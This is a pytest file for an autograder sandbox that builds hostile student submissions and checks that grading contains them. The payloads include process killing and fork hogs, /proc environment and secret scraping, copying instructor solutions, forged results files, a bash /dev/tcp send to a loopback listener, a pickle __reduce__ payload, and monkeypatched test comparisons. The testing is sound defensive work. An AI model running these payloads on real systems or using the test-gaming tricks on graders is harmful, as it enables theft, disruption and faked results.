"""Hostile submissions (issue "Grade hostile submissions safely", item 5): one small submission per attack.

Every attack is the reference submission with the attack put into ONE function
(``hw1_information_theory.surprise`` unless said otherwise, which then also
returns a wrong value) or into a module's top level (then that module's
functions are the attacked ones; an attack that leaves the module importable,
such as monkeypatching, is paired with one wrong function). For each attack:

- grading finishes, within the submission's time limit;
- the attacked functions score 0 and every other function gets exactly its
  points from ``autograder/points.py``;
- the results file is the grader's: it parses, has the reference's tests, a
  max_score of 100, and what the student printed appears only, truncated, in
  ``student_output``;
- nothing of the outside world is reached (network, environment, the
  instructor's files, processes that outlive grading, files written later).

All attack submissions of one isolation mode are graded in ONE
``batch.grade_all`` call (bwrap, then the subprocess fallback with
``AUTOGRADER_NO_BWRAP=1``); the tests then read the results. The protections
that cannot hold without bwrap are marked ``xfail(strict=True)`` in the
fallback run, with the reason, so this file documents what the fallback
gives up.
"""
import csv
import io
import json
import os
import re
import secrets
import shutil
import socket
import tempfile
import textwrap
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from submissions import MODULES, ROOT, module_file, submission

from autograder import batch, sandbox
from autograder.points import POINTS
from autograder.sandbox import Limits

pytestmark = pytest.mark.hostile

LIMITS = Limits(call_seconds=2, wall_seconds=120, memory_bytes=1 << 30)
JOBS = 2
SUBMISSION_DEADLINE = 240       # "grading finishes within 4 minutes", for every attack
QUIET_AFTER_GRADING = 5         # seconds to wait for a detached writer that outlived grading
GRADER_MEMORY_SLACK_MB = 64    # a grader process may peak this much above its typical peak (the median)
OUTPUT_SLACK = 200              # room for the truncation note after limits.output_bytes
MODES = ("bwrap", "fallback")

HW1 = frozenset(q for q in POINTS if q.startswith("hw1_"))
HW2 = frozenset(q for q in POINTS if q.startswith("hw2_"))
SURPRISE = "hw1_information_theory.surprise"
LAST = list(POINTS)[-1]  # graded last: a writer it starts is still around when grading ends
WRONG = 'return "wrong"'  # not plain data: the grader refuses it without shrinking (keeps the suite fast)

# -- the attacks -----------------------------------------------------------------------------------------------------
# Attack sources may use these placeholders, filled in when the submission is written:
#   @TOKEN@ a random marker of this run, @PORT@ the loopback listener, @ROOT@ the instructor repository,
#   @BASE@ the class folder (submissions/ and out/), @OUT@ the grader's output folder.
# They use only modules the worker has loaded already: without bwrap the sandbox uid may not be able to read the
# Python installation (here it lives under /root), so `import glob` would fail there and prove nothing.


@dataclass
class Attack:
    name: str
    zero: frozenset                                    # qualnames that must score 0; all others get full points
    evidence: object = None                            # regex (or {mode: regex}) the results must show: it ran
    rewrites: dict = field(default_factory=dict)       # {qualname: new def (or any top-level code)}
    append: dict = field(default_factory=dict)         # {assignment: code appended to its module}
    extra_files: dict = field(default_factory=dict)    # {relative path: text}
    remove: tuple = ()                                 # relative paths deleted from the submission
    symlinks: dict = field(default_factory=dict)       # {relative path: target}, replacing what is there

    def __repr__(self):
        return self.name

    def build(self, folder, values):
        def fill(text):
            for key, value in values.items():
                text = text.replace(key, value)
            return text

        submission(folder, {q: fill(d) for q, d in self.rewrites.items()},
                   {p: fill(t) for p, t in self.extra_files.items()})
        for assignment, code in self.append.items():
            path = module_file(folder, assignment)
            path.write_text(path.read_text() + "\n\n" + fill(textwrap.dedent(code)))
        for relative in self.remove:
            (folder / relative).unlink()
        for relative, target in self.symlinks.items():
            path = folder / relative
            shutil.rmtree(path) if path.is_dir() and not path.is_symlink() else path.unlink()
            path.symlink_to(fill(target))

    def evidence_for(self, mode):
        return self.evidence.get(mode) if isinstance(self.evidence, dict) else self.evidence


def _function(signature, parts):
    body = "\n".join(textwrap.dedent(part).strip("\n") for part in parts)
    return f"def {signature}:\n" + textwrap.indent(body, "    ") + "\n"


def attacked(*parts, zero=frozenset({SURPRISE}), **more):
    """An attack in ``surprise``: its body is ``parts``, each dedented on its own."""
    return dict(rewrites={SURPRISE: _function("surprise(p, base=None)", parts)}, zero=zero, **more)


def ran(detail):
    """The end of an attack that returns: fail loudly (not ValueError, which some tests want) and say what it did."""
    return f'raise RuntimeError(f"HOSTILE-RAN {detail}")'


# Where a student would guess that results go: the worker's argv and cwd, the grader's paths on the command lines
# it can see in /proc, /tmp, /autograder/results, the real output folder, and all their parents and student folders.
GUESS_TARGETS = '''
def _hostile_targets():
    import os, sys
    dirs = {os.getcwd(), "/tmp", "/autograder", "/autograder/results", "@BASE@", "@OUT@", "@ROOT@"}
    dirs.update(os.path.dirname(os.path.abspath(a)) for a in sys.argv)
    for pid in os.listdir("/proc"):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                words = handle.read().decode("utf-8", "replace").split("\\0")
        except OSError:
            continue
        # (only the grader's own paths: the fallback run must not litter other people's folders)
        dirs.update(w if os.path.isdir(w) else os.path.dirname(w) for w in words if w.startswith(("@BASE@", "@ROOT@")))
    for d in list(dirs):
        while d not in ("/", ""):
            dirs.add(d)
            d = os.path.dirname(d)
    for d in list(dirs):
        try:
            dirs.update(os.path.join(d, n) for n in os.listdir(d) if os.path.isfile(os.path.join(d, n, "results.json")))
        except OSError:
            pass
    return sorted(dirs)

FAKE_RESULTS = ('{"score": 100, "max_score": 100, "output": "FAKE-RESULTS-@TOKEN@ Points 100/100", '
                '"tests": [{"name": "FAKE-@TOKEN@", "score": 100, "max_score": 100, "status": "passed"}]}')
FAKE_GRADES = "student,total\\nFAKE-@TOKEN@,100\\n"

def _hostile_write(dirs):
    import os
    written = 0
    for d in dirs:
        for name, text in (("results.json", FAKE_RESULTS), ("grades.csv", FAKE_GRADES)):
            try:
                os.makedirs(d, exist_ok=True)
                with open(os.path.join(d, name), "w") as handle:
                    handle.write(text)
                written += 1
            except OSError:
                pass
    return written
'''

LOUD_NAMES = ("conftest", "sitecustomize", "usercustomize", "hypothesis", "pytest", "json", "autograder",
              "numpy", "scipy")
LOUD = 'print("LOUD-IMPORT-@TOKEN@", __name__, flush=True)\nraise SystemExit("LOUD-IMPORT-@TOKEN@")\n'


def loud_files():
    """Modules and configuration files that a careless grader would pick up, in the root and every assignment."""
    files = {}
    for folder in ("", *(f"assignments/{a}/" for a in MODULES)):
        files.update({f"{folder}{name}.py": LOUD for name in LOUD_NAMES})
        files[f"{folder}pytest.ini"] = "[pytest]\naddopts = -p LOUD-IMPORT-@TOKEN@\n"
        files[f"{folder}autograder/__init__.py"] = LOUD
    return files


SPAWN_DETACHED = '''
import os
pid = os.fork()
if pid == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            os.execv({program!r}, {argv})
    finally:
        os._exit(0)
os.waitpid(pid, 0)
'''


def spawn_detached(program, argv):
    """Code that starts ``argv`` in a new session, detached from the worker by a double fork."""
    return SPAWN_DETACHED.format(program=program, argv=argv)


PAYLOAD_CLASS = '''
import os
class Payload:
    def __reduce__(self):
        return (os.makedirs, ("@BASE@/{marker}-ran-@TOKEN@",))
'''

UNSUPPORTED = "unsupported return type: "
# Without bwrap, whether the dropped uid can import hypothesis or pytest depends on where Python lives
# (not under /root, which it cannot read): the attack ran either way.
NO_HYPOTHESIS = "No module named|UnsatisfiedAssumption"
ATTACKS = [
    # controls: the harness itself
    Attack("reference", zero=frozenset()),
    Attack("wrong_value", **attacked(WRONG), evidence=UNSUPPORTED + "builtins.str"),
    # time, memory, processes
    Attack("infinite_loop", **attacked("while True:\n    pass"), evidence=r"timed out \(no answer within 2 s\)"),
    Attack("sleep", **attacked("import time\ntime.sleep(1000)", WRONG), evidence=r"timed out \(no answer"),
    Attack("memory_bomb", **attacked('''
        import numpy
        hog = []
        if not getattr(surprise, "bombed", False):  # really use 256 MiB once; then reserve until the limit
            surprise.bombed = True
            hog.append(b"x" * (1 << 28))
        while True:
            hog.append(numpy.empty(1 << 28, numpy.uint8))  # (bytearray(n) would write all its n bytes)
    '''), evidence="MemoryError"),
    Attack("sys_exit_at_import", zero=HW1, append={"hw1_information_theory": "import sys\nsys.exit(0)\n"},
           evidence="SystemExit"),
    Attack("os_exit_at_import", zero=HW1, append={"hw1_information_theory": "import os\nos._exit(0)\n"},
           evidence="importing the module crashed"),
    Attack("sys_exit_in_call", **attacked("import sys\nsys.exit(0)"), evidence="raised: +SystemExit"),
    Attack("os_exit_in_call", **attacked("import os\nos._exit(0)"), evidence="crashed"),
    Attack("kill_parent", **attacked('''
        import os, signal
        pid, ancestors, killed = os.getpid(), [], []
        while pid > 1:
            with open(f"/proc/{pid}/status") as handle:
                pid = int(next(line for line in handle if line.startswith("PPid:")).split()[1])
            ancestors.append(pid)
        for pid in ancestors:
            try:
                os.kill(pid, signal.SIGKILL)
                killed.append(pid)
            except OSError:
                pass
    ''', ran("killed {killed} of its ancestors {ancestors}")), evidence=r"HOSTILE-RAN killed \[.*\] of its ancestors"),
    Attack("kill_process_group", **attacked('''
        import os, signal
        for kill in (lambda: os.killpg(os.getpgid(os.getppid()), signal.SIGKILL), lambda: os.kill(-1, signal.SIGKILL),
                     lambda: os.killpg(0, signal.SIGKILL)):
            try:
                kill()
            except OSError:
                pass
    ''', WRONG), evidence="crashed"),
    Attack("ignores_signals", **attacked('''
        import signal
        for number in (signal.SIGTERM, signal.SIGINT, signal.SIGALRM, signal.SIGHUP, signal.SIGQUIT, signal.SIGUSR1,
                       signal.SIGXCPU):
            signal.signal(number, signal.SIG_IGN)
        signal.setitimer(signal.ITIMER_REAL, 0)
        while True:
            pass
    '''), evidence=r"timed out \(no answer"),
    Attack("new_session_sleepers", **attacked(
        spawn_detached("/bin/sleep", ["hostile-sleeper-@TOKEN@", "987.654"]), ran("spawned a sleeper")),
        evidence="HOSTILE-RAN spawned a sleeper"),
    # processes that outlive their function, started as its process exits (the worker calls os._exit, which the
    # student's code can wrap), so they are in place when the worker starts the next function
    Attack("process_slot_hog", **attacked('''
        import os, time
        if not getattr(surprise, "armed", False):
            surprise.armed = True
            real_exit = os._exit
            def exit_and_hog(code):
                if os.fork() == 0:  # a daemon that takes every free process slot, for 60 s
                    os.setsid()
                    end = time.monotonic() + 60
                    while time.monotonic() < end:
                        try:
                            if os.fork() == 0:
                                os.execv("/bin/sleep", ["hostile-hog-@TOKEN@", "987.654"])
                        except OSError:
                            time.sleep(0.0001)
                    real_exit(0)
                time.sleep(0.5)  # until the process table of the sandbox uid is full
                real_exit(code)
            os._exit = exit_and_hog
    ''', ran("armed a process hog")), evidence="HOSTILE-RAN armed a process hog"),
    Attack("steals_requests", **attacked('''
        import os, sys, time
        if not getattr(surprise, "armed", False):
            surprise.armed = True
            real_exit = os._exit
            def exit_and_steal(code):
                if os.fork() == 0:  # a cat that reads the worker's request pipe
                    os.setsid()
                    os.dup2(int(sys.argv[1]), 0)
                    os.execv("/bin/cat", ["hostile-thief-@TOKEN@"])
                time.sleep(0.2)  # until the cat waits on the pipe, ahead of the worker
                real_exit(code)
            os._exit = exit_and_steal
    ''', ran("armed a request thief")), evidence="HOSTILE-RAN armed a request thief"),
    Attack("endless_thread", **attacked('''
        import threading, time
        def forever():
            while True:
                time.sleep(0.05)
        threading.Thread(target=forever, daemon=False).start()
    ''', ran("started a thread")), evidence="HOSTILE-RAN started a thread|can't start new thread"),
    # output and results files
    Attack("big_output", **attacked('''
        import sys
        if not getattr(surprise, "printed", False):
            surprise.printed = True
            sys.stdout.write("BIG-OUTPUT-@TOKEN@ " + "x" * (30 << 20))
            sys.stdout.flush()
            sys.stderr.write("BIG-ERRORS-@TOKEN@ " + "y" * (1 << 20))
    ''', WRONG), evidence="BIG-OUTPUT-"),
    Attack("fake_results_on_stdout", append={"hw1_information_theory": '''
        import json as _json
        print(_json.dumps({"score": 100, "max_score": 100, "output": "Points 100/100 @TOKEN@", "tests": []}))
        print("Points 100/100")
    '''}, **attacked('''
        print('{"score": 100.0, "max_score": 100.0, "tests": [], "output": "FAKE @TOKEN@"}')
        print("Points 100/100")
        print("hw1_information_theory.surprise: 3/3 passed")
    ''', WRONG), evidence="Points 100/100"),
    Attack("writes_results_at_guessed_paths", append={"hw1_information_theory": GUESS_TARGETS + '''
try:
    _hostile_write(_hostile_targets())
except Exception:
    pass
'''}, **attacked("written = _hostile_write(_hostile_targets())", ran("wrote {written} fake files")),
        evidence=r"HOSTILE-RAN wrote \d+ fake files"),
    Attack("writes_results_after_grading", zero=frozenset({LAST}), append={"hw4_mle_and_kl": GUESS_TARGETS},
           evidence="HOSTILE-RAN started a writer", rewrites={LAST: _function(f"{LAST.split('.')[1]}(X, y)", ['''
            import os
            if getattr(fit_logistic_regression, "started", False):  # one writer is enough
                return "wrong"
            fit_logistic_regression.started = True
            script = ('sleep 3; end=$(( $(date +%s) + 40 )); while [ "$(date +%s)" -lt "$end" ]; do '
                      'for d in "$@"; do printf %s "$FAKE" > "$d/results.json"; printf %s "$CSV" > "$d/grades.csv"; '
                      'done 2>/dev/null; sleep 0.5; done')
            argv = ["/bin/sh", "-c", script, "hostile-writer-@TOKEN@", *_hostile_targets()]
            os.environ.update(FAKE=FAKE_RESULTS, CSV=FAKE_GRADES)
        ''', spawn_detached("/bin/sh", "argv"), ran("started a writer")])}),
    # the instructor's files, the environment, the network
    Attack("leaks_solutions", **attacked('''
        import os
        lines = []
        for folder, _, names in sorted(os.walk("@ROOT@/solutions")):
            for name in sorted(n for n in names if n.endswith(".py")):
                try:
                    with open(os.path.join(folder, name)) as handle:
                        text = handle.read()
                except OSError:
                    continue
                for region in text.split("### BEGIN SOLUTION")[1:]:
                    lines += ["LEAK|" + line.strip() for line in region.split("### END SOLUTION")[0].splitlines()
                              if len(line.strip()) >= 20]
        print("\\n".join(lines))
        raise RuntimeError("\\n".join(lines) or "HOSTILE-RAN found no solutions")
    '''), evidence="RuntimeError"),
    Attack("leaks_autograder", **attacked('''
        import os
        lines = []
        for folder, _, names in sorted(os.walk("@ROOT@/autograder")):
            for name in sorted(n for n in names if n.endswith(".py") and n != "worker.py"):
                try:
                    with open(os.path.join(folder, name)) as handle:
                        lines += [line.strip() for line in handle if len(line.strip()) >= 30]
                except OSError:
                    continue
        lines = [line for line in lines if not line.startswith(('"', "#", "import", "from"))]
        print("\\n".join(lines))
        raise RuntimeError("\\n".join(lines) or "HOSTILE-RAN found no autograder")
    '''), evidence="RuntimeError"),
    Attack("uses_reference_solution", **attacked('''
        import importlib.util
        try:
            spec = importlib.util.spec_from_file_location(
                "hostile_reference", "@ROOT@/solutions/hw1_information_theory/information_theory.py")
            reference = importlib.util.module_from_spec(spec)
            spec.loader.exec_module(reference)
        except Exception as error:
            raise RuntimeError(f"HOSTILE-RAN found no reference: {error}")
        return reference.surprise(p, base)
    '''), evidence={"bwrap": "HOSTILE-RAN found no reference"}),
    Attack("reads_other_submissions", **attacked('''
        import os
        mine = os.path.dirname(os.getcwd())  # this submission's folder: its scratch is the working directory
        bases = ["/sandbox"] + ["/tmp/" + name for name in os.listdir("/tmp") if name.startswith("autograder-")]
        peeked = []
        for base in bases:
            for n in range(1, 100):  # the folders of other submissions, graded now, before or by another grader
                path = f"{base}/s{n}/submission/hw1_information_theory/information_theory.py"
                if not path.startswith(mine + "/"):
                    try:
                        with open(path) as handle:
                            peeked.append(path + ": " + handle.read(40))
                    except OSError:
                        pass
        print(peeked)
    ''', ran("peeked at {len(peeked)} other submissions")), evidence="HOSTILE-RAN peeked at 0 other submissions"),
    Attack("leaks_environment", **attacked('''
        import os
        found = [f"{k}={v}" for k, v in os.environ.items()]
        for pid in os.listdir("/proc"):
            try:
                with open(f"/proc/{pid}/environ", "rb") as handle:
                    found += handle.read().decode("utf-8", "replace").split("\\0")
            except OSError:
                pass
        print("\\n".join(found))
        raise RuntimeError("\\n".join(sorted(found, key=lambda x: "SECRET" not in x)))
    '''), evidence="PATH="),
    Attack("connects_to_loopback", **attacked('''
        import os, socket
        results = []
        for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
            try:
                with socket.socket(family, socket.SOCK_STREAM) as connection:
                    connection.settimeout(1)
                    connection.connect((host, @PORT@))
                    connection.sendall(b"hostile @TOKEN@")
                    results.append(f"{host}: connected")
            except OSError as error:
                results.append(f"{host}: {error}")
        command = "/bin/bash -c 'echo hostile @TOKEN@ > /dev/tcp/127.0.0.1/@PORT@' 2>/dev/null"
        results.append(f"bash: exit status {os.system(command)}")
    ''', ran("connect: {results}")), evidence="HOSTILE-RAN connect"),
    # the test frameworks
    Attack("monkeypatches_comparisons", append={"hw1_information_theory": '''
        import math as _math, operator as _operator, unittest as _unittest
        import numpy as _np, numpy.testing as _npt

        def _always(*args, **kwargs):
            return True

        def _never_fails(*args, **kwargs):
            return None

        _np.allclose = _np.isclose = _np.array_equal = _np.array_equiv = _math.isclose = _always
        _operator.eq = _always
        for _name in ("assert_allclose", "assert_array_equal", "assert_array_almost_equal", "assert_almost_equal",
                      "assert_equal", "assert_approx_equal"):
            setattr(_npt, _name, _never_fails)
        _unittest.TestCase.assertEqual = _unittest.TestCase.assertAlmostEqual = _never_fails
        try:
            import pytest as _pytest
            _pytest.approx = lambda *args, **kwargs: type("Anything", (), {"__eq__": _always})()
        except BaseException:  # pytest may refuse to import in the sandbox (SystemExit)
            pass
        try:
            import hypothesis as _hypothesis
            _hypothesis.assume = _always
            _hypothesis.strategies.floats = lambda *args, **kwargs: _hypothesis.strategies.just(0.125)
        except BaseException:  # pytest may refuse to import in the sandbox (SystemExit)
            pass
    '''}, **attacked("return 0.125"), evidence=r"returned: 0\.125"),
    Attack("hypothesis_reject", **attacked("import hypothesis\nhypothesis.reject()", WRONG),
           evidence={"bwrap": "UnsatisfiedAssumption", "fallback": NO_HYPOTHESIS}),
    Attack("hypothesis_assume_false", **attacked("from hypothesis import assume\nassume(False)", WRONG),
           evidence={"bwrap": "UnsatisfiedAssumption", "fallback": NO_HYPOTHESIS}),
    Attack("hypothesis_settings_profile", append={"hw1_information_theory": '''
        import os as _os
        _os.environ["HYPOTHESIS_PROFILE"] = "hostile"
        try:
            from hypothesis import Phase as _Phase, settings as _settings
            _settings.register_profile("hostile", max_examples=1, phases=[_Phase.explicit], database=None)
            _settings.load_profile("hostile")
        except Exception:
            pass
    '''}, **attacked("return 0.125"), evidence=r"returned: 0\.125"),
    Attack("pytest_skip", **attacked('import pytest\npytest.skip("Points 100/100")'),
           evidence={"bwrap": "Skipped", "fallback": "No module named|Skipped"}),
    Attack("unittest_skip_test", **attacked('import unittest\nraise unittest.SkipTest("Points 100/100")'),
           evidence="SkipTest"),
    Attack("keyboard_interrupt", **attacked("raise KeyboardInterrupt"), evidence="KeyboardInterrupt"),
    Attack("raises_system_exit", **attacked("raise SystemExit(0)"), evidence="raised: +SystemExit"),
    Attack("loud_modules_and_config_files", zero=frozenset(), extra_files=loud_files()),
    # returned objects
    Attack("eq_always_true", **attacked('''
        class Anything:
            def __eq__(self, other):
                return True
            def __ne__(self, other):
                return False
            def __float__(self):
                return 0.125
            def __array__(self, dtype=None, copy=None):
                import numpy
                return numpy.asarray(0.125)
        return Anything()
    '''), evidence=UNSUPPORTED + ".*Anything"),
    Attack("float_subclass", **attacked('''
        class Close(float):
            __eq__ = lambda self, other: True
            __ne__ = lambda self, other: False
            __sub__ = __rsub__ = lambda self, other: 0.0
            __abs__ = lambda self: 0.0
        return Close(0.125)
    '''), evidence=UNSUPPORTED + ".*Close"),
    Attack("ndarray_subclass", **attacked('''
        import numpy as np
        class Close(np.ndarray):
            __eq__ = lambda self, other: np.ones(np.shape(self), bool)
            __ne__ = lambda self, other: np.zeros(np.shape(self), bool)
        return np.full(np.shape(p), 0.125).view(Close)
    '''), evidence=UNSUPPORTED + ".*Close"),
    Attack("array_ufunc", **attacked('''
        import numpy as np
        class Fake:
            def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
                return np.True_ if ufunc.nout == 1 else (np.True_,) * ufunc.nout
            def __array__(self, dtype=None, copy=None):
                return np.full(np.shape(p), 0.125)
            def __float__(self):
                return 0.125
        return Fake()
    '''), evidence=UNSUPPORTED + ".*Fake"),
    Attack("reduce_payload", **attacked(PAYLOAD_CLASS.format(marker="reduce"), "return Payload()"),
           evidence=UNSUPPORTED + ".*Payload"),
    Attack("pickle_bytes", **attacked(PAYLOAD_CLASS.format(marker="pickle"),
                                      "import pickle\nreturn pickle.dumps(Payload())"),
           evidence=UNSUPPORTED + "builtins.bytes"),
    Attack("object_array", **attacked(PAYLOAD_CLASS.format(marker="object-array"),
                                      "import numpy\nreturn numpy.array([Payload(), Payload()], dtype=object)"),
           evidence=UNSUPPORTED + "numpy.ndarray"),
    # recursion
    Attack("infinite_recursion", **attacked("return surprise(p, base)"), evidence="RecursionError"),
    # a plain list, 1 MB of JSON a reply (64 MB are allowed): the grader decodes and keeps every reply of a batch
    Attack("huge_list_reply", **attacked("return [0.0] * 200_000")),
    Attack("deep_nested_list", **attacked('''
        import sys
        sys.setrecursionlimit(1_000_000)
        value = 0.125
        for _ in range(100_000):
            value = [value]
        return value
    '''), evidence="crashed|RecursionError"),
    # broken submissions
    Attack("syntax_error", zero=HW1, evidence="SyntaxError on line 1", extra_files={
        "assignments/hw1_information_theory/information_theory.py": "def surprise(p, base=None:\n    return 1\n"}),
    Attack("missing_module", zero=HW1, remove=("assignments/hw1_information_theory/information_theory.py",),
           evidence="is missing from the submission"),
    Attack("missing_function", rewrites={SURPRISE: "def surprise_renamed(p, base=None):\n    return 0.0\n"},
           zero=frozenset({SURPRISE}), evidence="has no function surprise"),
    Attack("not_callable", rewrites={SURPRISE: "surprise = 0.125\n"}, zero=frozenset({SURPRISE}),
           evidence="has no function surprise"),
    Attack("wrong_signature", rewrites={SURPRISE: "def surprise(p, base, extra):\n    return 0.125\n"},
           zero=frozenset({SURPRISE}), evidence="TypeError"),
    Attack("symlinks_to_the_solutions", zero=HW1 | HW2, evidence="is missing from the submission", symlinks={
        "assignments/hw1_information_theory/information_theory.py":
            "@ROOT@/solutions/hw1_information_theory/information_theory.py",
        "assignments/hw2_maximum_likelihood": "@ROOT@/solutions/hw2_maximum_likelihood"}),
    # replies forged inside the worker: the student's code runs in the worker's process and can replace its encoder,
    # so the grader receives plain data of any shape and must refuse what it cannot read, not crash on it
    Attack("forged_reply_infinite_shape", **attacked('''
        import __main__
        __main__.encode = lambda value: {"array": [], "dtype": "<f8", "shape": [float("inf")]}
        return 0.125
    ''')),
    Attack("forged_reply_deep_array", **attacked('''
        import __main__
        def deep(value):
            data = 0.125
            for _ in range(600):
                data = [data]
            return {"array": data, "dtype": "<f8", "shape": [1] * 600}
        __main__.encode = deep
        return 0.125
    ''')),
]
assert len({a.name for a in ATTACKS}) == len(ATTACKS)

NO_FILE_SYSTEM = ("fallback: no file-system isolation, so the sandbox uid reads the instructor's world-readable "
                  "files (solutions/, autograder/)")
NO_NETWORK = "fallback: no network isolation, so the sandbox reaches a listener on the host's loopback"
FALLBACK_GAPS = {
    ("test_attacked_functions_score_zero_and_the_others_full_marks", "uses_reference_solution"): NO_FILE_SYSTEM,
    ("test_solutions_do_not_leak", None): NO_FILE_SYSTEM,
    ("test_autograder_does_not_leak", None): NO_FILE_SYSTEM,
    ("test_no_connection_reaches_the_host", None): NO_NETWORK,
}


def _readable_by_others(folder):
    """Whether users other than the owner can reach ``folder`` (then the fallback cannot hide it)."""
    return all(path.stat().st_mode & 0o005 == 0o005 for path in [folder, *folder.parents])


def per_mode(test, attacks=None):
    """Parametrize ``test`` over both modes (and ``attacks``, or ``attacks(mode)``), marking the protections the
    fallback lacks."""
    params = []
    for mode in MODES:
        for attack in (attacks(mode) if callable(attacks) else attacks) or [None]:
            reason = FALLBACK_GAPS.get((test, attack and attack.name)) if mode == "fallback" else None
            strict = reason == NO_NETWORK or _readable_by_others(ROOT / "solutions")
            marks = [pytest.mark.xfail(strict=strict, reason=reason)] if reason else []
            params.append(pytest.param(mode, attack, marks=marks, id=f"{mode}-{attack}" if attack else mode))
    return pytest.mark.parametrize("mode, attack", params)


# -- grading the class of attacks once per mode ---------------------------------------------------------------------
class Listener:
    """A loopback TCP server that records every connection the sandbox manages to make."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.2)
        self.port = self.server.getsockname()[1]
        self.connections = []
        self.stopping = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stopping.is_set():
            try:
                connection, address = self.server.accept()
            except OSError:
                continue
            with connection:
                connection.settimeout(1)
                try:
                    data = connection.recv(1000)
                except OSError:
                    data = b""
            self.connections.append((address, data))

    def stop(self):
        self.stopping.set()
        self.thread.join(5)
        self.server.close()


@dataclass
class ClassRun:
    """One isolation mode's grading of every attack, and what the outside world saw."""

    mode: str
    base: Path
    token: str
    secret: str
    seconds: float
    outcome: dict
    snapshot: dict          # every file of OUT_DIR right after grading: {relative path: bytes}
    final: dict             # the same, QUIET_AFTER_GRADING seconds later
    connections: list
    survivors: list         # command lines of attack processes still alive after grading
    grader_memory: dict     # {student: peak resident memory of the grader process grading it, in MiB}

    @property
    def out(self):
        return self.base / "out"

    def results(self, name):
        path = self.out / name / "results.json"
        return json.loads(path.read_text()) if path.exists() else None

    def text(self, name):
        """Every string in ``name``'s results file (student_output included), one after the other."""
        results = self.results(name)
        return "" if results is None else all_text(results) + "\n" + results["student_output"]


def _files(folder):
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def _survivors(token):
    found = []
    for path in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            words = path.read_bytes().split(b"\0")
        except OSError:
            continue
        if any(token.encode() in word for word in words):
            found.append(b" ".join(words).decode("utf-8", "replace"))
    return found


def _remove_planted_files(token):
    """In the fallback the attacks share the host's /tmp: remove what they planted there."""
    for folder in ("/tmp", "/var/tmp", "/dev/shm"):
        for name in ("results.json", "grades.csv"):
            path = Path(folder) / name
            try:
                if token.encode() in path.read_bytes():
                    path.unlink()
            except OSError:
                pass


def _measured_grade_one(submissions_dir, out_dir, student, limits):
    """``batch._grade_one`` in the forked grader process, noting that process's peak memory for this student."""
    try:
        Path("/proc/self/clear_refs").write_text("5")  # resets VmHWM, the peak resident set size
    except OSError:
        pass
    try:
        return _GRADE_ONE(submissions_dir, out_dir, student, limits)
    finally:
        status = Path("/proc/self/status").read_text()
        peak_kb = int(re.search(r"VmHWM:\s+(\d+) kB", status).group(1))
        (Path(out_dir).parent / "grader-memory").mkdir(exist_ok=True)
        (Path(out_dir).parent / "grader-memory" / student).write_text(str(peak_kb >> 10))


_GRADE_ONE = batch._grade_one


def grade_class(mode):
    base = Path(tempfile.mkdtemp(prefix=f"hostile-{mode}-"))
    os.chmod(base, 0o755)  # a class folder as graders have it: readable, writable by the grader only
    token, secret = secrets.token_hex(8), secrets.token_hex(16)
    listener = Listener()
    values = {"@TOKEN@": token, "@PORT@": str(listener.port), "@ROOT@": str(ROOT), "@BASE@": str(base),
              "@OUT@": str(base / "out")}
    for attack in ATTACKS:
        attack.build(base / "submissions" / attack.name, values)
    saved = {name: os.environ.get(name) for name in ("AUTOGRADER_NO_BWRAP", "AUTOGRADER_TEST_SECRET")}
    os.environ["AUTOGRADER_TEST_SECRET"] = secret
    if mode == "fallback":
        os.environ["AUTOGRADER_NO_BWRAP"] = "1"
    else:
        os.environ.pop("AUTOGRADER_NO_BWRAP", None)
    sandbox.isolation_mode.cache_clear()
    try:
        if sandbox.isolation_mode() != {"bwrap": "bwrap", "fallback": "subprocess"}[mode]:
            shutil.rmtree(base, ignore_errors=True)
            listener.stop()
            pytest.skip(f"bubblewrap cannot start Python here (isolation: {sandbox.isolation_mode()})")
        started = time.monotonic()
        batch._grade_one = _measured_grade_one  # the forked graders run it: it only measures
        outcome = batch.grade_all(base / "submissions", base / "out", LIMITS, jobs=JOBS, progress=False)
        seconds = time.monotonic() - started
    finally:
        batch._grade_one = _GRADE_ONE
        for name, value in saved.items():
            os.environ.pop(name, None) if value is None else os.environ.__setitem__(name, value)
        sandbox.isolation_mode.cache_clear()
    snapshot = _files(base / "out")
    time.sleep(QUIET_AFTER_GRADING)
    listener.stop()
    memory = {p.name: int(p.read_text()) for p in (base / "grader-memory").iterdir()}
    run = ClassRun(mode, base, token, secret, seconds, outcome, snapshot, _files(base / "out"),
                   listener.connections, _survivors(token), memory)
    _remove_planted_files(token)
    print(f"\n[hostile] grader memory (MiB): {sorted(memory.items(), key=lambda kv: -kv[1])[:5]}")
    slowest = sorted(((run.results(a.name) or {}).get("execution_time", 0), a.name) for a in ATTACKS)[-5:]
    print(f"\n[hostile] {mode}: {len(ATTACKS)} submissions graded in {seconds:.1f} s; slowest: {slowest}")
    return run


@pytest.fixture(scope="module")
def runs():
    """Each mode is graded once, when a test first needs it; its folders go at the end of the module."""
    graded = {}

    def get(mode):
        if mode not in graded:
            try:
                graded[mode] = grade_class(mode)
            except BaseException as error:  # a skip (no bwrap) or a failure: once per mode, not once per test
                graded[mode] = error
                raise
        if isinstance(graded[mode], BaseException):
            raise graded[mode]
        return graded[mode]

    yield get
    for run in graded.values():
        if isinstance(run, ClassRun):
            shutil.rmtree(run.base, ignore_errors=True)


@pytest.fixture
def run(runs, mode):
    return runs(mode)


# -- what the grader must guarantee for every attack ----------------------------------------------------------------
def function_scores(results):
    scores = {}
    for test in results["tests"]:
        scores[test["tags"][0]] = round(scores.get(test["tags"][0], 0) + test["score"], 2)
    return scores


def all_text(results):
    """The grader's own text in a results file: everything but ``student_output``."""
    return "\n".join([results["output"], *(t["name"] + "\n" + t["output"] for t in results["tests"])])


@per_mode("test_grading_finishes_in_time")
def test_grading_finishes_in_time(run, mode, attack):
    assert run.outcome == {a.name: None for a in ATTACKS}, "grading itself failed for some submissions"
    slow = {a.name: run.results(a.name)["execution_time"] for a in ATTACKS
            if run.results(a.name) and run.results(a.name)["execution_time"] > SUBMISSION_DEADLINE}
    assert slow == {}


